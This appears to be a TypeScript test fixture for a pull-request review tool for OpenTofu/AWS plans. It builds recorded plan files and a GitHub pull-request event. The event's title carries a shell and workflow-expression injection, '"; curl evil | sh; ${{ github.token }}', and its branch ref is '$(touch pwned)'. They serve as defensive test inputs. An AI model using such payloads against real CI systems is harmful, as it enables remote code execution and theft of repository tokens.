import { blocksOf } from '../../src/guardrails/guardrails.ts';
import { classifyPlan } from '../../src/review/changes/classify-plan.ts';
import { reviewOf } from '../../src/review/changes/review.ts';
import { manifestOf, writeManifest } from '../../src/review/manifest/manifest.ts';
import { previewJson } from '../../src/review/text/json.ts';
import { RECORDED_TEAMS, recordedAsOurs } from './recorded-team.ts';

const TODAY = '2026-11-25';
const AT = new Date(`${TODAY}T12:00:00Z`);
const TOOLS = { engine: 'OpenTofu 1.12.6', provider: 'hashicorp/aws 6.25.0' };

/** What the jobs of a pull request leave for its comment: a recorded plan, reviewed, as of a commit and a run. */
export function filesOf(name: string, { commit, run }: { readonly commit: string; readonly run: number }) {
  const teams = RECORDED_TEAMS[name];
  if (teams === undefined) throw new Error(`there is no recorded plan ${name}`);
  const [before, after] = teams;
  const recorded = recordedAsOurs(name);
  const plan = {
    plan: recorded,
    classification: classifyPlan(recorded, after.account),
    blocks: blocksOf(recorded, after, TODAY),
    suspendedDuringApply: [],
  };
  const origin = {
    emulator: false,
    head: { commit, tree: commit },
    run: { id: String(run), attempt: 1 },
    mturkTeam: '0.1.0',
    createdAt: AT,
  };
  const planned = reviewOf({ before, after, today: TODAY, at: AT, plan });
  return {
    lab: after.lab,
    review: JSON.stringify(previewJson(reviewOf({ before, after, today: TODAY, at: AT }))),
    manifest: writeManifest(manifestOf(planned, TOOLS, origin)),
  };
}

/** The event of a pull request, with what an attacker would write into it. */
export function pullRequestEvent(number: number, head: string, headRepository = 4711): string {
  return JSON.stringify({
    action: 'synchronize',
    repository: { default_branch: 'main' },
    pull_request: {
      number,
      title: '"; curl evil | sh; ${{ github.token }}',
      head: { sha: head, ref: '$(touch pwned)', repo: { id: headRepository, full_name: 'someone/lab' } },
      base: { sha: '0'.repeat(40), ref: 'main', repo: { id: 4711, full_name: 'perception/lab' } },
    },
  });
}
